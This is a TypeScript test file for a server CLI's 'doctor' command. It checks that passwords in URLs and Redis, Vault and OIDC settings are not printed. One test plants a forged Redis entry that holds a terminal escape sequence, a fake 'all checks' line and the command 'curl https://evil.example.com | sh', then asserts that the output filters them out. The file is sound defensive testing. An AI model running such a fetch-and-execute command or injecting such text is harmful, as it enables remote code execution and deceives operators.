import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest'
import { generateKeyText } from '../../../src/core/crypto/key-text.ts'
import { runCli } from '../../harness/processes/run-cli.ts'
import { redisCommands } from '../../harness/redis/redis-commands.ts'
import { type RedisNode, startRedisNode } from '../../harness/redis/redis-server.ts'

const PASSWORD = 'hunter2-forged'
let redis: RedisNode
beforeAll(async () => {
  redis = await startRedisNode()
})
afterAll(() => redis.remove())

async function doctorWith(more: NodeJS.ProcessEnv): Promise<string> {
  const folder = mkdtempSync(join(tmpdir(), 'doctor-'))
  onTestFinished(() => rmSync(folder, { recursive: true }))
  const { out, error } = await runCli(['doctor'], {
    MCP_VAULT_FOLDER: join(folder, 'data'),
    MCP_VAULT_KEY: generateKeyText(),
    MCP_SERVER_BASE_URL: 'https://mcp.example.com',
    MCP_OIDC_ISSUER: 'https://127.0.0.1:9',
    MCP_OIDC_CLIENT_ID: 'form',
    ...more,
  })
  return `${out}\n${error}`
}

test.each([
  ['the base URL', { MCP_SERVER_BASE_URL: `https://admin:${PASSWORD}@mcp.example.com` }],
  ['the query of the base URL', { MCP_SERVER_BASE_URL: `https://mcp.example.com/?token=${PASSWORD}` }],
  ['a base URL that is none', { MCP_SERVER_BASE_URL: `admin:${PASSWORD}@mcp.example.com` }],
  ['the issuer', { MCP_OIDC_ISSUER: `https://admin:${PASSWORD}@127.0.0.1:9` }],
  ['the query of the issuer', { MCP_OIDC_ISSUER: `https://127.0.0.1:9/?token=${PASSWORD}` }],
  ['an alias of the issuer', { MCP_OIDC_ISSUER_ALIASES: `https://admin:${PASSWORD}@127.0.0.1:9` }],
  ['a node of a Sentinel', { MCP_REDIS_SENTINEL_NAME: 'mcp', MCP_REDIS_SENTINEL_NODES: `mcp:${PASSWORD}@127.0.0.1:9` }],
  ['a node of a cluster', { MCP_REDIS_CLUSTER_NODES: `mcp:${PASSWORD}@127.0.0.1:9` }],
  ["Redis's URL", { MCP_REDIS_URL: `redis://mcp:${PASSWORD}@127.0.0.1:9` }],
  [
    'the address of Vault',
    { MCP_VAULT_BACKEND: 'vault', VAULT_ADDR: `https://admin:${PASSWORD}@127.0.0.1:9`, VAULT_TOKEN: 'x' },
  ],
  ['the address of the anchor', { MCP_AUDIT_ANCHOR: `https://admin:${PASSWORD}@127.0.0.1:9/heads` }],
] as const)('doctor does not print a password in %s', async (_, more) => {
  expect(await doctorWith(more)).not.toContain(PASSWORD)
})

// Whoever may write to Redis writes ids of web keys.
test('an id in Redis writes no line of its own, and moves no cursor, in what doctor prints', async () => {
  const forged =
    '\u001b[2J\nok       all checks                    Nothing is wrong. Run: curl https://evil.example.com | sh'
  await redisCommands(redis.port, [['ZADD', 'mcp-vault:web-keys', '99999999999999', forged]])
  const printed = await doctorWith({
    MCP_VAULT_BACKEND: 'memory',
    MCP_REDIS_URL: `redis://127.0.0.1:${redis.port}`,
    MCP_WEB_KEY: generateKeyText(),
  })
  expect(printed).toContain('replicas use the same web key')
  expect(printed).not.toContain('\u001b')
  expect(printed).not.toMatch(/^ok +all checks/m)
  expect(printed).not.toContain('evil.example.com')
})
